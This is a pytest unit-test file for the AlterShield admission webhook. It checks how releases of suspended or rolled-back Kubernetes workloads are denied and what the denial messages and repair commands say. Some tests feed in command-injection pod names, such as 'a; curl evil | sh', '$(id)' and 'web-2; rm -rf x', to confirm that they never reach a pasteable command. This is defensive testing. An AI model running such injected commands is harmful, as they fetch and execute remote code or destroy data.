"""Design rules 2 and 5: the releases that are denied, the texts of the denials, and the requests that always pass."""

import json
import re
import unicodedata
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from altershield.api import labels, released_by
from altershield.api.pages import DENIED
from tests.unit.gatekeeper.reviews import (
    MUTATE,
    RECONCILER,
    VALIDATE,
    StaticListers,
    about,
    ask,
    deployment,
    kind,
    release,
    released,
    review,
    rolling_back,
    validate,
    version_of,
)

pytestmark = pytest.mark.usefixtures("every_kind")

Object = dict[str, Any]

SUSPENDED = "1683791175"  # 2023-05-11 07:46:15 UTC
OLD = version_of(deployment())
ROLLED_BACK_MESSAGE = (  # as reconciler/releases/decisions/rollback.py writes it
    "pod sleep-1 is not up after 120 s: ImagePullBackOff; version 1 was released again at 2026-08-21T07:31:49Z"
)
BIDIRECTIONAL = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def failed(*messages: str) -> StaticListers:
    """Listers after pods of the stored version failed verification."""
    pods = [{"pod": f"sleep-5c698f4449-{n}", "message": m, "verdict": "unpass"} for n, m in enumerate(messages)]
    return StaticListers(releases=release(OLD, status="Suspend", defenseCheckFailPods=pods))


def suspended_release(**own: str) -> tuple[Object, Object]:
    """A suspended workload with a changed template after the mutating webhook, and the stored workload."""
    return released("busybox:2", suspend=SUSPENDED, **own), released(suspend=SUSPENDED)


def test_release_of_a_suspended_workload_is_denied_with_the_message_of_the_walkthrough() -> None:
    response = validate(*suspended_release(), failed("find error"))
    assert response["allowed"] is False
    # kubectl: `Error from server (REASON): admission webhook "vdeployment.kb.io" denied the request: MESSAGE`
    assert response["status"] == {
        "status": "Failure",
        "code": 403,
        "reason": f"{kind()} sleep is suspended",
        "message": f"{kind()} sleep is suspended",
    }


def test_suspension_warnings_name_the_version_the_pods_the_time_and_the_repair() -> None:
    assert validate(*suspended_release(), failed("find error", ""))["warnings"] == [
        f"AlterShield: releases of {kind()} sleep are suspended since 2023-05-11T07:46:15Z: "
        f"version {OLD} failed verification",
        "pod sleep-5c698f4449-0 failed: find error",
        "pod sleep-5c698f4449-1 failed: unpass",
        "to repair, run this command, which lets one release pass, then release: "
        f"kubectl label --overwrite {kind()} -n default sleep altershield.defense.antgroup.com/ignored-suspend=true",
        "if only these pods were bad, delete them, and their successors are verified: "
        "kubectl delete pod -n default sleep-5c698f4449-0 sleep-5c698f4449-1",
        f"to see why and all ways out, also for a wrong verdict, run: altershield why -n default {kind()}/sleep",
        f"this page explains suspensions: {DENIED}",
    ]


def test_suspension_by_one_pod_says_how_to_delete_it() -> None:
    assert (
        "if only the pod was bad, delete it, and its successor is verified: "
        "kubectl delete pod -n default sleep-5c698f4449-0"
    ) in validate(*suspended_release(), failed("find error"))["warnings"]


def test_warning_names_the_page_instead_of_a_command_that_does_not_fit() -> None:
    name = "s" * 253
    warnings = ask(VALIDATE, review(*suspended_release(), name=name), failed("find error"))["warnings"]
    assert f"to repair, run this command, which lets one release pass, then release (see {DENIED})" in warnings


def test_suspension_warnings_list_five_pods_and_count_the_others() -> None:
    warnings = validate(*suspended_release(), failed(*["x"] * 12))["warnings"]
    assert sum("failed: x" in warning for warning in warnings) == 5
    assert "and 7 more pods failed" in warnings
    assert not any("delete" in each for each in warnings), "the pods are not the reason"


def test_name_that_no_pod_can_have_is_in_no_command() -> None:
    pods = [{"pod": name, "message": "x", "verdict": "unpass"} for name in ("web-1", "web-2; rm -rf x")]
    listers = StaticListers(releases=release(OLD, status="Suspend", defenseCheckFailPods=pods))
    warnings = validate(*suspended_release(), listers)["warnings"]
    assert not any("kubectl delete pod" in each for each in warnings)


@given(st.lists(st.text(max_size=2000), max_size=8), st.text(max_size=40), st.text(max_size=253), st.text(max_size=63))
def test_warnings_have_valid_sizes_and_characters_for_any_text_in_the_cluster(
    messages: list[str], since: str, name: str, namespace: str
) -> None:
    new, old = suspended_release()
    old["metadata"]["labels"][labels.SUSPEND] = since
    try:
        body = review(new, old, name=name, namespace=namespace)
        json.dumps(body, ensure_ascii=False).encode()
    except UnicodeEncodeError:
        return  # half surrogates are no JSON
    listers = failed(*messages)
    listers.release = lambda *_: next(iter(listers.releases.values()))  # type: ignore[method-assign]
    warnings = ask(VALIDATE, body, listers)["warnings"]
    assert all(0 < len(warning.encode()) <= 256 for warning in warnings)
    assert sum(len(warning) for warning in warnings) < 4096
    assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in "".join(warnings))
    assert not any(unicodedata.bidirectional(c) in BIDIRECTIONAL for c in "".join(warnings))


def test_suspended_workload_without_changeworkload_is_denied() -> None:
    response = validate(*suspended_release(), StaticListers())
    assert response["status"]["message"] == f"{kind()} sleep is suspended"
    assert any("ignored-suspend" in warning for warning in response["warnings"])


def test_denial_while_the_repair_is_verified_differs_from_the_denial_after_the_failure() -> None:
    listers = StaticListers(releases=release(OLD, status="Running"))
    response = validate(*suspended_release(), listers)
    assert response["allowed"] is False
    (name,) = listers.releases
    assert response["warnings"] == [
        f"AlterShield: releases of {kind()} sleep are suspended since 2023-05-11T07:46:15Z: "
        f"version {OLD}, which repairs the failure, is not verified yet (Running)",
        "the suspension ends when that version is a Success; to follow it, run: "
        f"kubectl get changeworkload -n default {name.removeprefix('default/')}",
        f"this page explains suspensions: {DENIED}",
    ]


def test_denial_before_the_repair_is_processed_does_not_ask_for_another_repair() -> None:
    """`kubectl rollout undo` as the repair: the ChangeWorkload of the earlier release of this version exists."""
    new, old = suspended_release()
    del old["metadata"]["labels"][labels.DEFENSE_STATUS]
    for listers in (StaticListers(), StaticListers(releases=release(OLD, status="Success")), failed("find error")):
        warnings = validate(new, old, listers)["warnings"]
        assert warnings[0].endswith(f"version {OLD}, which repairs the failure, is not verified yet (Init)")
        assert warnings[1].startswith("the suspension ends when that version is a Success; to follow it, run: kubectl")
        assert len(warnings) == 3


def test_denial_after_the_repair_succeeded_says_that_the_suspension_ends() -> None:
    warnings = validate(*suspended_release(), StaticListers(releases=release(OLD, status="Success")))["warnings"]
    assert warnings == [
        f"AlterShield: releases of {kind()} sleep are suspended since 2023-05-11T07:46:15Z: "
        f"version {OLD} repairs the failure and is verified",
        f"the suspension ends in a few seconds, then release again (see {DENIED})",
    ]


def test_denial_while_the_repair_waits_gives_the_reason() -> None:
    stalled = {"type": "Stalled", "status": "True", "reason": "Paused", "message": "the workload is paused"}
    listers = StaticListers(releases=release(OLD, status="Running", conditions=[stalled]))
    assert "the release waits: Paused: the workload is paused" in validate(*suspended_release(), listers)["warnings"]


@pytest.mark.parametrize("status", ["Suspend", "Failed"])
def test_denial_after_a_failure_without_failed_pods_says_how_to_repair(status: str) -> None:
    warnings = validate(*suspended_release(), StaticListers(releases=release(OLD, status=status)))["warnings"]
    assert warnings[0].endswith(f"version {OLD} failed verification")
    assert warnings[1].startswith("to repair, run this command")


def test_commands_in_denials_are_at_the_end_and_have_the_names_filled_in() -> None:
    repair = f"kubectl label --overwrite {kind()} -n default sleep {labels.IGNORED_SUSPEND}=true"
    suspended = validate(*suspended_release(), failed("find error"))
    rolled = validate(released("busybo"), released(), rolled_back(BAD))
    commands = [
        *(each.partition(": kubectl ")[2] for each in suspended["warnings"]),
        rolled["status"]["message"].partition(": kubectl ")[2],
    ]
    assert [f"kubectl {each}" for each in commands if each] == [
        repair,
        "kubectl delete pod -n default sleep-5c698f4449-0",
        repair,
    ]


def test_every_denial_names_altershield_and_the_page() -> None:
    for response in (
        validate(*suspended_release(), failed("find error")),
        validate(*suspended_release()),
        validate(*suspended_release(), StaticListers(releases=release(OLD, status="Running"))),
        validate(*suspended_release(), StaticListers(releases=release(OLD, status="Success"))),
        validate(released("busybo"), released(), rolled_back(BAD)),
        validate(released("busybo"), listers=rolled_back(BAD)),
    ):
        text = "\n".join((*response.get("warnings", ()), response["status"]["message"]))
        assert text.startswith("AlterShield: ")
        assert DENIED in text


def test_all_times_in_denials_are_rfc_3339() -> None:
    pattern = re.compile(r"\b\d{4}-\d{2}-\d{2}\S*")
    suspended = validate(*suspended_release(), failed("find error"))
    again = {"type": "RolledBack", "status": "True", "reason": "PodNotUp", "message": ROLLED_BACK_MESSAGE}
    denied = validate(released("busybo"), released(), rolled_back(BAD, conditions=[again]))
    text = "\n".join((*suspended["warnings"], denied["status"]["message"]))
    found = [each.rstrip(":;") for each in pattern.findall(text)]
    assert found == ["2023-05-11T07:46:15Z", "2026-08-21T07:29:49Z", "2026-08-21T07:31:49Z"]


def test_warnings_contain_no_bidirectional_control_characters() -> None:
    warnings = validate(*suspended_release(), failed("find \u202eerror\u2066"))["warnings"]
    assert warnings[1] == "pod sleep-5c698f4449-0 failed: find error"


@pytest.mark.parametrize("suspend", ["", "soon", "-1", "9" * 400])
def test_release_is_denied_if_the_suspend_label_is_not_a_time(suspend: str) -> None:
    new, old = suspended_release()
    old["metadata"]["labels"][labels.SUSPEND] = suspend
    assert validate(new, old)["status"]["code"] == 403


def test_release_is_denied_if_the_same_request_removes_the_suspend_label() -> None:
    _, old = suspended_release()
    assert validate(released("busybox:2"), old)["allowed"] is False


def test_release_with_ignored_suspend_passes() -> None:
    new, old = suspended_release(ignored_suspend="true")
    response = validate(new, old, failed("find error"))
    assert response["allowed"] is True
    assert response["auditAnnotations"]["bypass"] == "ignored-suspend"


def test_second_repair_before_the_first_is_processed_is_denied_with_the_advice_to_wait() -> None:
    """The first repair is stored. The reconciler has not removed its label yet."""
    first = released("busybox:2", suspend=SUSPENDED, ignored_suspend="true")
    del first["metadata"]["labels"][labels.DEFENSE_STATUS]
    response = validate(released("busybox:3", suspend=SUSPENDED, ignored_suspend="true"), first, failed("find error"))
    assert response["status"]["message"] == response["status"]["reason"] == f"{kind()} sleep is suspended"
    version = version_of(deployment("busybox:2"))
    assert response["warnings"][0] == (
        "AlterShield: the label ignored-suspend lets one release pass, and it already let version "
        f"{version} pass, which is not processed yet; release again in a few seconds"
    )
    assert response["warnings"][1].endswith(f"version {version}, which repairs the failure, is not verified yet (Init)")


@pytest.mark.parametrize("value", ["false", "", "True", "1"])
def test_ignored_suspend_with_another_value_than_true_is_denied(value: str) -> None:
    assert validate(*suspended_release(ignored_suspend=value))["allowed"] is False


def test_ignored_suspend_in_the_stored_object_only_is_denied() -> None:
    new, old = suspended_release()
    old["metadata"]["labels"][labels.IGNORED_SUSPEND] = "true"
    assert validate(new, old)["allowed"] is False


def test_release_of_a_suspended_workload_by_the_reconciler_passes() -> None:
    listers = StaticListers(releases=rolling_back())
    assert validate(*suspended_release(), listers, user=RECONCILER)["allowed"] is True


def test_suspended_workload_stays_suspended_when_blocking_is_switched_off() -> None:
    assert validate(*suspended_release(), StaticListers(blocking=False))["allowed"] is False
    assert validate(*suspended_release(ignored_suspend="true"), StaticListers(blocking=False))["allowed"] is True


FAILED = [{"pod": "sleep-a", "uid": "a", "verdict": "unpass"}]


def unlabelled(status: str = "Suspend", version: str = OLD, *, blocking: bool = True, **more: Any) -> StaticListers:
    """Listers after the reconciler stored this status, and before it writes the label `suspend`."""
    spec = more.pop("spec", None)
    owner = more.pop("owner", None)
    found = release(version, spec=spec, owner=owner, status=status, defenseCheckFailPods=FAILED, **more)
    return StaticListers(releases=found, blocking=blocking)


def test_release_is_denied_from_the_moment_the_status_suspends_it_before_the_label_is_written() -> None:
    response = validate(released("busybox:2"), released(), unlabelled(entryTimeUnix=int(SUSPENDED)))
    assert response["status"]["message"] == response["status"]["reason"] == f"{kind()} sleep is suspended"
    assert response["warnings"][:2] == [
        f"AlterShield: releases of {kind()} sleep are suspended since 2023-05-11T07:46:15Z: "
        f"version {OLD} failed verification",
        "pod sleep-a failed: unpass",
    ]


def test_status_suspends_again_when_another_pod_fails_after_a_person_resumed() -> None:
    listers = unlabelled(resumption={"sinceUnix": 1, "pods": ["b"]})
    assert not validate(released("busybox:2"), released(), listers)["allowed"]


@pytest.mark.parametrize("status", ["Init", "Running", "Success", "Failed", "Rollback"])
def test_no_other_status_suspends(status: str) -> None:
    assert validate(released("busybox:2"), released(), unlabelled(status))["allowed"]


@pytest.mark.parametrize("mode", ["observe", "warn"])
def test_status_under_a_policy_that_does_not_enforce_suspends_nothing(mode: str) -> None:
    listers = unlabelled(spec={"policy": {"namespace": "default", "name": "rules", "mode": mode}})
    assert validate(released("busybox:2"), released(), listers)["allowed"]


def test_status_suspends_nothing_while_blocking_is_off_or_after_a_person_resumed() -> None:
    assert validate(released("busybox:2"), released(), unlabelled(blocking=False))["allowed"]
    resumed = unlabelled(resumption={"sinceUnix": 1, "pods": ["a"]})
    assert validate(released("busybox:2"), released(), resumed)["allowed"]


def test_status_of_another_version_release_or_workload_suspends_nothing() -> None:
    older = unlabelled(version=version_of(deployment("busybox:0")))
    assert validate(released("busybox:2"), released(), older)["allowed"]
    again = released()  # the version was released again, and has no ChangeWorkload of this release yet
    del again["metadata"]["labels"][labels.DEFENSE_STATUS]
    assert validate(released("busybox:2"), again, unlabelled())["allowed"]
    owner = {"apiVersion": about().api_version, "kind": about().kind, "name": "sleep", "uid": "x", "controller": True}
    assert validate(released("busybox:2"), released(), unlabelled(owner=owner))["allowed"]


def test_repair_the_reconciler_and_other_changes_pass_a_suspension_by_the_status() -> None:
    assert validate(released("busybox:2", ignored_suspend="true"), released(), unlabelled())["allowed"]
    scaled = {**released(), "spec": {**released()["spec"], "replicas": 9}}
    assert validate(scaled, released(), unlabelled())["allowed"]


def test_template_change_with_an_unchanged_version_label_is_denied() -> None:
    """Another webhook changed the template after the mutating webhook set the version."""
    old = released(suspend=SUSPENDED)
    new = released(suspend=SUSPENDED)
    new["spec"]["template"]["spec"]["containers"].append({"name": "sidecar", "image": "proxy"})
    assert validate(new, old)["allowed"] is False


def scaled(obj: Object) -> None:
    obj["spec"]["replicas"] = 0


def annotated(obj: Object) -> None:
    obj["metadata"]["annotations"] = {"deployment.kubernetes.io/revision": "7"}


def with_status(obj: Object) -> None:
    obj["status"] = {"observedGeneration": 7, "replicas": 5}


def labelled(obj: Object) -> None:
    obj["metadata"]["labels"][labels.IGNORED_SUSPEND] = "true"


def paused(obj: Object) -> None:
    obj["spec"]["paused"] = True


def stripped(obj: Object) -> None:
    del obj["spec"]["template"]["metadata"]["labels"][labels.VERSION]


@pytest.mark.parametrize("change", [scaled, annotated, with_status, labelled, paused, stripped])
@pytest.mark.parametrize("webhook", [MUTATE, VALIDATE])
def test_update_without_a_template_change_is_allowed(webhook: str, change: Any) -> None:
    new = released(suspend=SUSPENDED)
    change(new)
    assert ask(webhook, review(new, released(suspend=SUSPENDED)), failed("x"))["allowed"] is True


@pytest.mark.parametrize("webhook", [MUTATE, VALIDATE])
@pytest.mark.parametrize(
    "request_",
    [
        {"subResource": "scale", "object": {"apiVersion": "autoscaling/v1", "kind": "Scale", "metadata": {}}},
        {"subResource": "status"},
        {"operation": "DELETE", "object": None},
        {"operation": "CONNECT"},
    ],
)
def test_deletions_and_subresources_are_allowed_without_patch(webhook: str, request_: Object) -> None:
    body = review(*suspended_release(), **request_)
    assert ask(webhook, body, failed("x")) == {"uid": body["request"]["uid"], "allowed": True}


@pytest.mark.parametrize("webhook", [MUTATE, VALIDATE])
def test_dry_run_gets_the_same_response(webhook: str) -> None:
    new, old = suspended_release()
    assert ask(webhook, review(new, old, dryRun=True)) == ask(webhook, review(new, old))


def test_creation_with_the_suspend_label_is_allowed() -> None:
    assert validate(released(suspend=SUSPENDED))["allowed"] is True


def rolled_back(version: str, **status: Any) -> StaticListers:
    condition = {
        "type": "RolledBack",
        "status": "True",
        "reason": "StartTimeout",
        "message": "pod sleep-1 did not come up within 120 s (ImagePullBackOff)",
        "lastTransitionTime": "2026-08-21T07:29:49Z",
    }
    return StaticListers(
        releases=release(
            version, **{"status": "Failed", "entryTimeUnix": 1787297389, "conditions": [condition], **status}
        )
    )


BAD = version_of(deployment("busybo"))


def test_rolled_back_version_is_denied_with_time_reason_page_and_command() -> None:
    response = validate(released("busybo"), released(), rolled_back(BAD))
    assert response["status"] == {
        "status": "Failure",
        "code": 403,
        "reason": "Forbidden",
        "message": f"AlterShield: {kind()} sleep: version {BAD} was rolled back at 2026-08-21T07:29:49Z: pod sleep-1 "
        f"did not come up within 120 s (ImagePullBackOff); see {DENIED}; change the template, or run this command, "
        "which lets one release pass, and release it again: "
        f"kubectl label --overwrite {kind()} -n default sleep altershield.defense.antgroup.com/ignored-suspend=true",
    }
    assert response["auditAnnotations"]["version"] == BAD


def test_creation_of_a_rolled_back_version_is_denied_with_a_label_for_the_manifest() -> None:
    message = validate(released("busybo"), listers=rolled_back(BAD))["status"]["message"]
    assert message.endswith(
        f"see {DENIED}; change the template, or add the label "
        'altershield.defense.antgroup.com/ignored-suspend: "true" to the manifest and create it again'
    )


def test_version_whose_rollback_is_under_way_is_denied() -> None:
    listers = rolled_back(BAD, status="Rollback", conditions=[])
    assert validate(released("busybo"), released(), listers)["allowed"] is False


def test_another_version_passes_after_a_rollback() -> None:
    assert validate(released("busybox:2"), released(), rolled_back(BAD))["allowed"] is True


def test_scaling_passes_while_the_version_is_rolled_back() -> None:
    new = released("busybo")
    new["spec"]["replicas"] = 9
    assert validate(new, released("busybo"), rolled_back(BAD, status="Rollback"))["allowed"] is True


@pytest.mark.parametrize("status", ["Running", "Success", "Suspend", "Failed", "Init"])
def test_version_that_was_not_rolled_back_passes(status: str) -> None:
    listers = StaticListers(releases=release(BAD, status=status))
    assert validate(released("busybo"), released(), listers)["allowed"] is True


def test_rolled_back_version_passes_with_ignored_suspend_for_the_reconciler_and_without_blocking() -> None:
    listers = rolled_back(BAD)
    assert validate(released("busybo", ignored_suspend="true"), released(), listers)["allowed"] is True
    listers.releases |= rolling_back("busybo")
    assert validate(released("busybo"), released(), listers, user=RECONCILER)["allowed"] is True
    listers.blocking = False
    assert validate(released("busybo"), released(), listers)["allowed"] is True


def test_second_release_of_a_rolled_back_version_before_the_first_is_processed_is_denied() -> None:
    first = released("busybox:2", ignored_suspend="true")
    del first["metadata"]["labels"][labels.DEFENSE_STATUS]
    response = validate(released("busybo", ignored_suspend="true"), first, rolled_back(BAD))
    assert "was rolled back" in response["status"]["message"]
    assert "is not processed yet" in response["warnings"][0]
    listers = rolled_back(BAD)
    listers.blocking = False
    assert validate(released("busybo", ignored_suspend="true"), first, listers)["allowed"] is True


@pytest.mark.parametrize(("user", "passes"), [(RECONCILER, True), ("jane", False)])
def test_label_that_is_set_right_after_a_rollback_lets_a_release_pass(user: str, passes: bool) -> None:
    """The version that the rollback released is not processed yet. It needed no pass."""
    present = released("busybox:2", ignored_suspend="true")
    del present["metadata"]["labels"][labels.DEFENSE_STATUS]
    value = released_by.encode(user, version_of(deployment("busybox:2")), 1_700_000_000)
    present["metadata"]["annotations"] = {released_by.ANNOTATION: value}
    assert validate(released("busybo", ignored_suspend="true"), present, rolled_back(BAD))["allowed"] is passes


def test_rolled_back_template_is_denied_by_its_fingerprint_after_the_defaults_changed() -> None:
    """An API server with other defaults changes the stored template, so its fingerprint is not its version."""
    listers = rolled_back("f" * 32, source={"version": "f" * 32, "fingerprint": BAD})
    response = validate(released("busybo"), released(), listers)
    assert f"version {'f' * 32} was rolled back" in response["status"]["message"]
    assert validate(released("busybox:2"), released(), listers)["allowed"] is True


def owner(**changes: str) -> Object:
    ours = {
        "apiVersion": about().api_version,
        "kind": about().kind,
        "name": "sleep",
        "uid": released()["metadata"]["uid"],
    }
    return {**ours, "controller": True, **changes}


@pytest.mark.parametrize(
    ("changes", "spec", "belongs"),
    [
        ({}, {}, True),
        ({"uid": "other"}, {}, False),
        ({"kind": "Job"}, {}, False),
        ({"apiVersion": "batch/v1"}, {}, False),
        ({"uid": "other"}, {"workloadRef": {"uid": released()["metadata"]["uid"]}}, True),
        (None, {}, True),
        (None, {"workloadRef": {"kind": "Job", "name": "sleep", "uid": "other"}}, False),
    ],
)
def test_changeworkload_denies_only_its_own_workload(
    changes: dict[str, str] | None, spec: Object, belongs: bool
) -> None:
    listers = rolled_back(BAD, owner=None if changes is None else owner(**changes), spec=spec)
    assert validate(released("busybo"), released(), listers)["allowed"] is not belongs


def test_rolled_back_template_with_another_version_label_is_denied() -> None:
    new = deployment("busybo", own={labels.VERSION: OLD}, template_version=OLD)
    assert validate(new, released(), rolled_back(BAD))["allowed"] is False


def test_denial_contains_no_control_characters_and_is_short() -> None:
    condition = {"type": "RolledBack", "status": "True", "reason": "x", "message": "a\nb\x1b[31m" + "c" * 5000}
    message = validate(released("busybo"), released(), rolled_back(BAD, conditions=[condition]))["status"]["message"]
    assert "a b [31mcc" in message
    assert len(message) < 900


def without_version(obj: Object) -> Object:
    del obj["metadata"]["labels"][labels.VERSION]
    return obj


def test_denial_without_ignored_suspend_does_not_advise_to_wait() -> None:
    new, old = suspended_release()
    del old["metadata"]["labels"][labels.DEFENSE_STATUS]
    assert not any("not processed yet" in warning for warning in validate(new, old)["warnings"])


def test_repair_of_a_suspended_workload_without_a_version_passes_and_stores_a_version() -> None:
    """It was restored, or released while no gatekeeper decided. No other way leads out of the suspension."""
    new, old = suspended_release(ignored_suspend="true")
    del old["metadata"]["labels"][labels.DEFENSE_STATUS]
    assert validate(new, without_version(old))["allowed"] is True
    stored = released("busybox:2", suspend=SUSPENDED, ignored_suspend="true")
    del stored["metadata"]["labels"][labels.DEFENSE_STATUS]
    again = released("busybox:3", suspend=SUSPENDED, ignored_suspend="true")
    assert validate(again, stored)["allowed"] is False, "the label let that version pass"


def test_suspended_workload_without_a_version_is_denied_with_version_unknown() -> None:
    new, old = suspended_release()
    warnings = validate(new, without_version(old))["warnings"]
    assert warnings[0].endswith("version unknown failed verification (its ChangeWorkload does not exist)")


def test_second_repair_is_denied_while_defense_status_is_not_processed() -> None:
    new, old = suspended_release(ignored_suspend="true")
    old["metadata"]["labels"][labels.DEFENSE_STATUS] = "soon"
    assert validate(new, old)["allowed"] is False


def test_creation_of_a_rolled_back_version_with_ignored_suspend_passes() -> None:
    new = released("busybox:2", ignored_suspend="true")
    condition = {"type": "RolledBack", "status": "True", "reason": "PodNotUp"}
    listers = StaticListers(releases=release(version_of(deployment("busybox:2")), conditions=[condition]))
    assert validate(released("busybox:2"), None, listers)["allowed"] is False
    assert validate(new, None, listers)["allowed"] is True


def test_denial_of_a_rolled_back_version_without_a_reason_gives_none() -> None:
    condition = {"type": "RolledBack", "status": "True", "reason": ""}
    listers = StaticListers(releases=release(version_of(deployment("busybox:2")), conditions=[condition]))
    message = validate(released("busybox:2"), released(), listers)["status"]["message"]
    assert f" was rolled back; see {DENIED}; change the template" in message


def test_suspension_warnings_name_failed_pods_of_a_running_release() -> None:
    listers = StaticListers(
        releases=release(OLD, status="Running", defenseCheckFailPods=[{"pod": "a", "message": "find error"}])
    )
    warnings = validate(*suspended_release(), listers)["warnings"]
    assert f"version {OLD} failed verification" in warnings[0]
    assert warnings[1] == "pod a failed: find error"


def test_suspended_release_without_failed_pods_names_no_pod_to_delete() -> None:
    warnings = validate(*suspended_release(), StaticListers(releases=release(OLD, status="Suspend")))["warnings"]
    assert f"version {OLD} failed verification" in warnings[0]
    assert not any("delete pod" in warning for warning in warnings)


def test_suspension_warnings_name_a_failed_pod_without_message_and_verdict() -> None:
    listers = StaticListers(releases=release(OLD, status="Suspend", defenseCheckFailPods=[{"pod": "a"}]))
    warnings = validate(*suspended_release(), listers)["warnings"]
    assert warnings[1] == "pod a failed: no message"
    assert "kubectl delete pod -n default a" in warnings[3]


@pytest.mark.parametrize("name", ["a; curl evil | sh", "--all", "$(id)", "a b", ""])
def test_text_that_is_no_name_of_a_pod_is_not_part_of_a_command_to_paste(name: str) -> None:
    listers = StaticListers(releases=release(OLD, status="Suspend", defenseCheckFailPods=[{"pod": name}]))
    warnings = validate(*suspended_release(), listers)["warnings"]
    assert not any("delete pod" in warning for warning in warnings)


def test_suspension_warnings_count_no_pods_if_five_failed() -> None:
    warnings = validate(*suspended_release(), failed(*"abcde"))["warnings"]
    assert not any("more pods failed" in warning for warning in warnings)


@pytest.mark.parametrize("suspend", ["\u0661\u0662\u0663", "9" * 5000], ids=["other digits", "too many digits"])
def test_suspension_warnings_leave_out_a_time_that_is_not_a_unix_time(suspend: str) -> None:
    new, old = suspended_release()
    old["metadata"]["labels"][labels.SUSPEND] = suspend
    assert validate(new, old)["warnings"][0].startswith(f"AlterShield: releases of {kind()} sleep are suspended: ")


def test_uid_of_the_stored_workload_selects_its_changeworkloads() -> None:
    new, old = released("busybox:2"), released()
    new["metadata"]["uid"] = "forged"
    ref = {"apiVersion": about().api_version, "kind": about().kind, "name": "sleep", "uid": old["metadata"]["uid"]}
    owner = {"apiVersion": "v1", "kind": "Other", "name": "sleep", "uid": "x", "controller": True}
    condition = {"type": "RolledBack", "status": "True", "reason": "PodNotUp"}
    version = version_of(deployment("busybox:2"))
    known = release(version, spec={"workloadRef": ref}, owner=owner, conditions=[condition])
    assert validate(new, old, StaticListers(releases=known))["allowed"] is False


def test_commands_for_a_review_without_a_namespace_name_none() -> None:
    new, old = suspended_release()
    warnings = ask(VALIDATE, review(new, old, namespace=""), failed("x"))["warnings"]
    commands = [warning for warning in warnings if "kubectl" in warning]
    assert commands
    assert not any(" -n " in command for command in commands)
